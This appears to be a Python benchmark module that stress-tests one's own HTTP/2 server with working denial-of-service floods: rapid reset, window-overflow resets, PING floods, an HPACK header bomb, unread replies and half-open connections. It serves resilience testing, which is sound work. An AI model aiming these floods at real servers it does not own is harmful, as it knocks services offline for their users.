"""One attacker of the registers' door: `python -m altyn.benchmarks.front_attacker KIND HOST:PORT`, until it is ended.

It attacks as fast as one process can, comes anew whenever it is sent away or no longer read from, and waits for
nothing. Attacks: what reliability F62-F67 names. Never a client for anything but measuring one's own server.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import struct
import sys
from collections.abc import Callable, Iterator

from altyn.benchmarks.front_load import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_MAX,
    WINDOW_UPDATE,
    first_headers,
    frame,
)
from altyn.benchmarks.front_precedence import go_last
from altyn.benchmarks.front_scene import CALCULATE
from altyn.infra.settings import split_address

HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")
BURST = 64  # frames, or calls, to one send
CANCEL = (8).to_bytes(4)
HELD_CONNECTIONS = 512
NOT_READ_S = 0.02  # after which it comes anew
MESSAGE = b"\0" + (64).to_bytes(4) + bytes(64)


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset(headers: bytes) -> Iterator[bytes]:
    """Calls, each taken back at once."""
    numbers = streams()
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS, number, headers) + frame(RST_STREAM, 0, number, CANCEL)
            for number in itertools.islice(numbers, BURST)
        )


def made_you_reset(headers: bytes) -> Iterator[bytes]:
    """Calls that the server has to take back, for a window that overflows."""
    numbers, overflow = streams(), struct.pack(">I", WINDOW_MAX)
    while True:
        yield b"".join(
            frame(HEADERS, END_HEADERS, number, headers)
            + frame(DATA, END_STREAM, number, MESSAGE)
            + frame(WINDOW_UPDATE, 0, number, overflow)
            for number in itertools.islice(numbers, BURST)
        )


def pings(headers: bytes) -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8)) * BURST


def header_bomb(headers: bytes) -> Iterator[bytes]:
    """4 kB put into the table of headers, then named once a byte."""
    entry = b"\x40\x04bomb\x7f" + bytes([0x80 | (3_000 - 127) & 0x7F, (3_000 - 127) >> 7]) + b"x" * 3_000
    for number in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, headers + (entry if number == 1 else b"\xbe" * 12_000))


def does_not_read(headers: bytes) -> Iterator[bytes]:
    """Calls whose replies are left lying. Nothing here is ever read: it is the others' way as well."""
    for number in streams():
        yield frame(HEADERS, END_HEADERS, number, headers) + frame(DATA, END_STREAM, number, MESSAGE)


def half_open(address: tuple[str, int]) -> None:
    """Connections that never say hello, as many as it may hold; the oldest is let go for a new one."""
    held: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            held.append(socket.create_connection(address, 1))
        if len(held) > HELD_CONNECTIONS:
            held.pop(0).close()


ATTACKS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
    "rapid_reset": rapid_reset,
    "made_you_reset": made_you_reset,
    "pings": pings,
    "header_bomb": header_bomb,
    "does_not_read": does_not_read,
}
KINDS = (*ATTACKS, "half_open")


def attack(kind: str, address: str) -> None:
    if kind == "half_open":
        half_open(split_address(address))
        return
    headers = first_headers(CALCULATE, address, "0" * 64)
    while True:
        with contextlib.suppress(OSError), socket.create_connection(split_address(address), 1) as made:
            made.settimeout(NOT_READ_S)
            made.sendall(HELLO)
            for sent in ATTACKS[kind](headers):
                made.sendall(sent)


if __name__ == "__main__":
    go_last()  # it shares a core with those who measure, and must not be what they wait for
    print("{}", flush=True)
    attack(*sys.argv[1:3])
